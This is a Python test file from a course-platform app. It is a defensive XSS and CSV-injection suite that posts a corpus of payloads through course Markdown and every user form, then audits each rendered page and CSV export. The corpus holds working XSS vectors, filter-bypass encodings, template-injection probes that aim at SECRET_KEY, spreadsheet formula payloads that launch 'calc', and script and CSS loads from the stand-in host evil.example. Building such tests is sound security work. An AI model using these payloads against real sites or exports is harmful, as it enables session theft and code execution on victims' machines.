"""XSS corpus through every sink: course Markdown and every field a user can fill in.

RELIABILITY.md check 13. The render-level corpus (Markdown and nh3 alone) lives in
tests/content/test_render.py; here the payloads go through the whole app: a course file is
synced and every page rendering it is read as every role; user fields are posted through the
real forms (display name at registration and on the account page, short and free-text answers,
every other text field of every form on every page) and every page is read back.

"Executed" means the page holds markup a browser would run: a ``<script>`` without a
``/static/`` source, an ``on*`` attribute, a ``javascript:``/``data:`` URL, an injected element
(every payload carries the marker ``xssprobe``), a frame, ``<base>`` or meta refresh, or
``style=``. Template injection counts too (``{{7*7}}`` rendered as 49).
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from sqlalchemy import select

from learnapp.content import load_course
from learnapp.extensions import db
from learnapp.quizzes import services as quizzes
from learnapp.quizzes.models import QuizAttempt
from tests.security.conftest import (
    MARK,
    ROLES,
    World,
    executable_markup,
    forms_in,
)

PAYLOADS = [
    "<script>alert('xssprobe')</script>",
    "<SCRIPT SRC=//evil.example/xssprobe.js></SCRIPT>",
    "<img src=x onerror=alert('xssprobe')>",
    "\"><img src=x onerror=alert('xssprobe')>",
    "'><svg onload=alert('xssprobe')>",
    "<svg/onload=alert('xssprobe')>",
    "</title><script>alert('xssprobe')</script>",
    "</textarea><script>alert('xssprobe')</script>",
    "</script><script>alert('xssprobe')</script>",
    "<svg><script>alert('xssprobe')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xssprobe')></style></mglyph>",
    "<iframe src=\"javascript:alert('xssprobe')\"></iframe>",
    "<a href=\"javascript:alert('xssprobe')\">xssprobe</a>",
    "<a href=\" javascript:alert('xssprobe')\">xssprobe</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xssprobe</a>',
    "[xssprobe](javascript:alert(1))",
    "[xssprobe](JaVaScRiPt:alert(1))",
    "[xssprobe](java&#09;script:alert(1))",
    "[xssprobe](&#106;avascript:alert(1))",
    "![xssprobe](javascript:alert(1))",
    "[xssprobe][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert('xssprobe')>",
    "<details open ontoggle=alert('xssprobe')>",
    "<body onload=alert('xssprobe')>",
    "<xssprobe onmouseover=alert(1)>hover</xssprobe>",
    "<div data-xssprobe=1 onclick=alert(1)>x</div>",
    "<style>@import 'https://evil.example/xssprobe.css';</style>",
    "<p style=\"background:url(javascript:alert('xssprobe'))\">x</p>",
    '<base href="https://evil.example/xssprobe/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/xssprobe">',
    "<object data=\"javascript:alert('xssprobe')\"></object>",
    "<embed src=\"javascript:alert('xssprobe')\">",
    "<form action=\"javascript:alert('xssprobe')\"><button>x</button></form>",
    "<input autofocus onfocus=alert('xssprobe')>",
    "<video><source onerror=alert('xssprobe')></video>",
    "<audio src=x onerror=alert('xssprobe')>",
    "<!--<img src=\"--><img src=x onerror=alert('xssprobe')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xssprobe')>\">",
    "<scr<script>ipt>alert('xssprobe')</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt='xssprobe'>",
    "<table background=\"javascript:alert('xssprobe')\"><tr><td>x</td></tr></table>",
    "&lt;script&gt;alert('xssprobe')&lt;/script&gt;",
    "&#60;script&#62;alert('xssprobe')&#60;/script&#62;",
    "%3Cscript%3Ealert('xssprobe')%3C/script%3E",
    "\u2028<script>alert('xssprobe')</script>",
    "`<script>alert('xssprobe')</script>`",
    "{{7*7}}xssprobe {{ config.SECRET_KEY }}",
    "{% for x in range(3) %}xssprobe{% endfor %}",
    "'';!--\"<xssprobe>=&{()}",
    '=HYPERLINK("https://evil.example","xssprobe")',
    "+cmd|' /C calc'!A0 xssprobe",
    "@SUM(1+1)*xssprobe",
    "-2+3+cmd|xssprobe",
]
#: A formula after an in-cell separator, for spreadsheets that split on ';' or tabs (Excel in
#: many locales): the student's name while the CSV exports are read.
SEPARATOR_NAME = "Bob;=cmd|' /C calc'!A0;\t@SUM(1+1)xssprobe"
PAYLOADS.append(SEPARATOR_NAME)


def template_injection(html: str) -> list[str]:
    found = []
    if re.search(r"49\s*xssprobe", html):
        found.append("{{7*7}} evaluated")
    if "test-secret" in html:
        found.append("SECRET_KEY rendered")
    if "xssprobexssprobexssprobe" in html:
        found.append("{% for %} evaluated")
    return found


def audit(html: str) -> list[str]:
    return executable_markup(html) + template_injection(html)


def read_back(path: str, body: str) -> list[str]:
    """Findings in one crawled page (an HTML page, or a CSV export's formula cells).

    A CSV path refused to the role answers with an HTML page, which is audited as HTML.
    """
    if path.split("?")[0].endswith(".csv") and not body.lstrip().lower().startswith("<!doctype"):
        return [f"formula {cell!r}" for cell in formula_cells(body)]
    return audit(body)


#: Separators spreadsheets split CSV files on: ',' and, in many locales, ';' (Excel's list
#: separator), and tabs (LibreOffice offers all three).
SPREADSHEET_SEPARATORS = (",", ";", "\t")


def formula_cells(text: str) -> list[str]:
    """CSV cells a spreadsheet would evaluate (OWASP CSV injection), whichever separator it
    splits on."""
    cells = [cell for sep in SPREADSHEET_SEPARATORS for cell in spreadsheet_cells(text, sep)]
    found = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    return list(dict.fromkeys(found))


def spreadsheet_cells(text: str, separator: str) -> list[str]:
    """The cells of ``text`` as a spreadsheet splitting on ``separator`` reads them: a double
    quote starts or ends quoting anywhere in a cell (``""`` inside quotes is a quote), and a
    separator or line break ends the cell only outside quotes."""
    cells: list[str] = []
    cell: list[str] = []
    quoted = False
    index = 0
    while index < len(text):
        char = text[index]
        if char == '"' and quoted and text[index + 1 : index + 2] == '"':
            cell.append('"')
            index += 1
        elif char == '"':
            quoted = not quoted
        elif not quoted and (char == separator or char in "\r\n"):
            cells.append("".join(cell))
            cell = []
        else:
            cell.append(char)
        index += 1
    cells.append("".join(cell))
    return cells


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- course Markdown -------------------------------------------------------------------------


def refused_by_the_validator(root: Path, payloads: list[str]) -> list[str]:
    """Payloads `flask courses check` refuses (e.g. unsafe link schemes): safe, and a course
    holding one would not load, so they are counted and left out of the synced course."""
    refused = []
    for payload in payloads:
        write_xss_course(root, [payload])
        if load_course(root / "xss").course is None:
            refused.append(payload)
    return refused


def _yaml(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML double-quoted scalar


#: Payloads per module: module titles join them; each gets its own questions and paragraphs.
CHUNK = 6


def _questions(qid: str, payload: str) -> str:
    y = _yaml
    return (
        f"```question\nid: {qid}-single\ntype: single\nprompt: {y(payload)}\n"
        f"explanation: {y(payload)}\nchoices:\n"
        f"  - text: {y('A ' + payload)}\n    correct: true\n    feedback: {y(payload)}\n"
        f"  - text: {y('B ' + payload)}\n    feedback: {y(payload)}\n```\n\n"
        f"```question\nid: {qid}-short\ntype: short\nprompt: {y(payload)}\n"
        f"answers:\n  - text: {y('answer ' + payload)}\n    feedback: {y(payload)}\n```\n\n"
        f"```question\nid: {qid}-matching\ntype: matching\nprompt: {y(payload)}\n"
        f"pairs:\n  - prompt: {y('P1 ' + payload)}\n    answer: {y('A1 ' + payload)}\n"
        f"  - prompt: {y('P2 ' + payload)}\n    answer: {y('A2 ' + payload)}\n```\n\n"
        f"```question\nid: {qid}-ordering\ntype: ordering\nprompt: {y(payload)}\n"
        f"items:\n  - {y('first ' + payload)}\n  - {y('second ' + payload)}\n"
        f"  - {y('third ' + payload)}\n```\n\n"
    )


def _title(prefix: str, chunk: list[str], offset: int = 0) -> str:
    """As many of ``chunk``'s payloads as fit a 200-character title column, from ``offset``.

    (The validator does not limit title length; PostgreSQL refuses a longer title at sync.)
    """
    title = prefix
    for payload in chunk[offset:] + chunk[:offset]:
        if len(title) + len(payload) + 3 > 200:
            break
        title += " | " + payload
    return title


def write_xss_course(root: Path, payloads: list[str]) -> dict[str, list[str]]:
    """A course whose every text field holds payloads.

    Module i holds payloads [i*CHUNK, (i+1)*CHUNK): in its title and summary, its lesson's
    title, objectives, headings, paragraphs, table and admonition, its quiz's title and intro,
    and a single, short, matching and ordering question per payload (prompt, choices,
    feedback, explanation, accepted answers, pairs, items). The landing page holds them all.
    Returns the slugs to crawl.
    """
    inline = [p for p in payloads if "\n" not in p] or ["plain text"]
    course = root / "xss"
    shutil.rmtree(course, ignore_errors=True)
    course.mkdir(parents=True)
    modules, lessons, quizzes_, questions = [], [], [], []
    for i in range(0, len(inline), CHUNK):
        chunk = inline[i : i + CHUNK]
        joined = " | ".join(chunk)
        folder = course / f"m{i:02d}"
        folder.mkdir()
        modules.append(folder.name)
        lessons.append(f"xss-lesson-{i}")
        quizzes_.append(f"xss-quiz-{i}")
        paragraphs = "\n\n".join(
            f"## {p}\n\n{p}\n\n| a | b |\n|---|---|\n| {p} | x |\n\n!!! note {_yaml(p)}\n    {p}"
            for p in chunk
        )
        objectives = "".join(f"  - {_yaml(p)}\n" for p in chunk)
        (folder / "module.md").write_text(
            f"---\nid: xss-m{i}\ntitle: {_yaml(_title('Module', chunk))}\n"
            f"summary: {_yaml(joined)}\nlessons:\n  - lesson.md\nquizzes:\n  - quiz.md\n---\n"
            f"{joined}\n"
        )
        (folder / "lesson.md").write_text(
            f"---\nid: xss-lesson-{i}\ntitle: {_yaml(_title('Lesson', chunk, 2))}\nminutes: 3\n"
            f"objectives:\n{objectives}---\n{paragraphs}\n"
        )
        body = ""
        for n, payload in enumerate(chunk):
            qid = f"xss-q{i + n}"
            questions += [f"{qid}-single", f"{qid}-short"]
            body += _questions(qid, payload)
        (folder / "quiz.md").write_text(
            f"---\nid: xss-quiz-{i}\ntitle: {_yaml(_title('Quiz', chunk, 4))}\nattempts: 5\n"
            f"review: after_submit\nshuffle_choices: false\n---\n{joined}\n\n{body}"
        )
    module_list = "".join(f"  - {m}\n" for m in modules)
    (course / "course.md").write_text(
        f"---\nid: xss\ntitle: {_yaml('Course ' + inline[0])}\nsummary: {_yaml(inline[-1])}\n"
        f'version: "1"\nstatus: published\nlevel: beginner\nestimated_hours: 1\n'
        f"instructors: [instructor@example.com]\nauthors: [{_yaml(inline[len(inline) // 2])}]\n"
        f"modules:\n{module_list}---\n" + "\n\n".join(payloads) + "\n"
    )
    return {"lesson_slug": lessons, "quiz_slug": quizzes_, "question_slug": questions[::7]}


def crawl(app, client, samples: dict[str, list]) -> dict[str, str]:
    """Every GET route with each sample value (zipped, not multiplied); path -> body."""
    pages = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in (rule.methods or ()) or rule.endpoint == "static":
            continue
        args = sorted(rule.arguments)
        if any(a not in samples for a in args):
            continue
        width = max((len(samples[a]) for a in args), default=1)
        for n in range(width):
            values = {a: samples[a][n % len(samples[a])] for a in args}
            path = rule.build(values, append_unknown=False)[1]
            if path in pages or path.endswith(".pdf"):  # the PDF is check 17's sink
                continue
            response = client.get(path)
            if response.mimetype in ("text/html", "text/csv"):  # JSON is never rendered
                pages[path] = response.get_data(as_text=True)
    return pages


@pytest.mark.app_config(RATELIMIT_ENABLED=False)
def test_course_markdown_payloads_never_execute(
    app, courses_root, sync, world, client_as, figure, tmp_path
):
    refused = refused_by_the_validator(tmp_path, PAYLOADS)
    payloads = [p for p in PAYLOADS if p not in refused]
    slugs = write_xss_course(courses_root, payloads)
    report = sync()
    # The course must load: a refused file is safe but would probe nothing.
    assert "xss" not in report.failed, [str(p) for p in report.problems if p.is_error]
    # The student takes (and submits) each quiz so attempt, review and staff pages exist.
    student = client_as("student", world)
    attempts = []
    for quiz_slug in slugs["quiz_slug"]:
        started = student.post(f"/courses/xss/quizzes/{quiz_slug}/attempts")
        attempt_id = int(started.headers["Location"].rsplit("/", 1)[1])
        attempts.append(attempt_id)
        student.get(f"/attempts/{attempt_id}")
    submitted = attempts[: len(attempts) // 2]
    for attempt_id in submitted:
        student.post(f"/attempts/{attempt_id}/submit")
    samples = {
        **slugs,
        "course_slug": ["xss"],
        "attempt_id": attempts,
        "user_id": [world.student.id],
    }
    samples["asset_path"] = ["none.png"]
    findings, pages, showing = [], 0, []
    # Anonymous visitors see a subset of the student's pages, admins the instructor's.
    for role in ("student", "instructor"):
        client = student if role == "student" else client_as(role, world)
        crawled = crawl(app, client, samples)
        crawled["/search?q=xssprobe"] = client.get("/search?q=xssprobe").text
        pages += len(crawled)
        showing.append([path for path, body in crawled.items() if MARK in body])
        for path, body in crawled.items():
            findings += [f"{role} {path}: {f}" for f in read_back(path, body)]
    figure.add("check 13 XSS: payloads", len(PAYLOADS))
    figure.add("check 13 XSS: course payloads refused by the validator", len(refused))
    shown = sum(1 for role_pages in showing for _ in role_pages)
    figure.add("check 13 XSS: course pages read (student, instructor)", pages)
    figure.add("check 13 XSS: course pages showing a payload", shown)
    figure.add("check 13 XSS: executed", len(findings))
    assert findings == []
    assert pages > 4 * len(slugs["lesson_slug"])
    assert shown >= 2 * 2 * len(slugs["lesson_slug"])  # the payloads did reach the pages
    assert len(refused) < len(PAYLOADS) // 3, refused


# --- user-supplied fields --------------------------------------------------------------------


def short_answer_form(attempt: QuizAttempt, text: str) -> dict[str, str]:
    db.session.refresh(attempt)
    data = {"attempt_token": quizzes.attempt_token(attempt), "sequence": str(attempt.sequence)}
    for answer in attempt.answers:
        spec = quizzes.question_spec(answer.question_id, answer.question_hash)
        if spec.type in ("short", "numeric"):
            data[f"q_{answer.id}"] = text
    return data


@pytest.mark.app_config(RATELIMIT_ENABLED=False)
def test_user_fields_never_execute(app, world, client_as, figure):
    """Display names (register, account), short and numeric answers, and every other text
    field of every form a student finds, each with payloads; then every page as every role."""
    names = [p for p in PAYLOADS if len(p) <= 120]
    # Registration: new students named with every fourth payload (the account page below
    # takes every payload through the same field).
    for n, payload in enumerate(names[::4]):
        fresh = app.test_client()
        response = fresh.post(
            "/register",
            data={
                "email": f"xss{n}@example.com",
                "display_name": payload,
                "password": "a brand new passphrase",
                "confirm": "a brand new passphrase",
            },
        )
        assert response.status_code == 302, payload
        for path in ("/", "/account"):
            body = fresh.get(path).text
            assert not audit(body), (payload, path, audit(body))
    student = client_as("student", world)
    # The account page: the student's own name becomes each payload in turn.
    findings = []
    for payload in names:
        response = student.post(
            "/account", data={"profile-display_name": payload, "profile-submit": "1"}
        )
        assert response.status_code == 302
        findings += [f"account {payload!r}: {f}" for f in audit(student.get("/account").text)]
    # Short and numeric answers, saved with the page form and by autosave.
    attempt = db.session.get(QuizAttempt, world.open_attempt.id)
    for payload in PAYLOADS:
        saved = student.post(
            f"/attempts/{attempt.id}/autosave", data=short_answer_form(attempt, payload)
        )
        assert saved.status_code == 200, saved.text
        findings += [f"autosave {payload!r}: {f}" for f in audit(saved.text)]
        findings += [
            f"take {payload!r}: {f}" for f in audit(student.get(f"/attempts/{attempt.id}").text)
        ]
    # Every other text field of every form the student finds (problem reports, ...).
    submitted_forms = fill_every_form(app, student, world, PAYLOADS[2])
    student.post(f"/attempts/{attempt.id}/submit")
    # The name the CSV exports carry while every page is read back.
    renamed = student.post(
        "/account", data={"profile-display_name": SEPARATOR_NAME, "profile-submit": "1"}
    )
    assert renamed.status_code == 302
    findings += crawl_all_roles(app, world, client_as)
    figure.add(
        "check 13 XSS: user-field forms filled",
        len(names[::4]) + len(names) + len(PAYLOADS) + submitted_forms,
    )
    figure.add("check 13 XSS: executed", len(findings))
    assert findings == []


#: Forms whose submission would end the probe (sign out, leave, destroy the account).
SKIP_FORMS = ("/logout", "/unenroll", "/anonymise", "/active", "/role")


def fill_every_form(app, client, world: World, payload: str) -> int:
    """Post every POST form on every page ``client`` can open, text fields set to ``payload``."""
    samples = {
        "course_slug": ["basics"],
        "lesson_slug": ["basics-intro"],
        "quiz_slug": ["basics-quiz"],
        "attempt_id": [world.open_attempt.id],
        "user_id": [world.student.id],
    }
    posted = 0
    for path, body in crawl(app, client, samples).items():
        for form in forms_in(body):
            if form.method != "POST" or any(s in form.action for s in SKIP_FORMS):
                continue
            data = dict(form.fields)
            data.update({name: payload for name in form.text_fields})
            data.update({name: options[-1] for name, options in form.selects.items() if options})
            if not form.text_fields:
                continue
            client.post(form.action or path, data=data)
            posted += 1
    return posted


def crawl_all_roles(app, world: World, client_as) -> list[str]:
    db.session.commit()
    users = [u.id for u in db.session.scalars(select(type(world.student)))]
    attempts = [a.id for a in db.session.scalars(select(QuizAttempt))]
    samples = {
        "course_slug": ["basics"],
        "lesson_slug": ["basics-intro"],
        "quiz_slug": ["basics-quiz"],
        "question_slug": ["q-short", "q-single"],
        "attempt_id": attempts,
        "user_id": users[:6],
        "public_id": [world.certificate_id or "x"],
    }
    findings = []
    for role in ROLES:
        client = client_as(role, world)
        pages = crawl(app, client, samples)
        pages["/admin/users?q=xss"] = client.get("/admin/users?q=xss").text
        for path, body in pages.items():
            findings += [f"{role} {path}: {f}" for f in read_back(path, body)]
    return findings


def test_the_audit_catches_what_it_should():
    """The checks above would fail if a payload got through unescaped."""
    assert audit("<p><img src=x onerror=alert('xssprobe')></p>")
    assert audit("<script>alert(1)</script>")
    assert audit('<a href=" javascript:alert(1)">x</a>')
    assert audit("<xssprobe>")
    assert audit("<p>49 xssprobe</p>")
    assert not audit('<script src="/static/js/app.js" defer></script><p>&lt;script&gt;</p>')
    assert "=HYPERLINK(x)" in formula_cells('name,score\r\n=HYPERLINK("x"),5\r\n')
    assert formula_cells("name,score\r\n'=HYPERLINK(x),-5\r\n") == []
    # A separator inside an unquoted cell starts a new cell in ';' and tab locales.
    assert formula_cells("name,score\r\nBob;=cmd|x!A0;,5\r\n") == ["=cmd|x!A0"]
    assert formula_cells("Bob\t=cmd,5\r\n") == ["=cmd,5"]
    assert formula_cells('name,score\r\n"Bob;=cmd|x!A0;","5"\r\n') == []
    assert formula_cells('"a ""quoted"";=x","b\tc"\r\n') == []
    assert formula_cells("'x\t=1+1\r\n") == ["=1+1"]
    assert MARK in PAYLOADS[0]
    assert len(PAYLOADS) >= 50
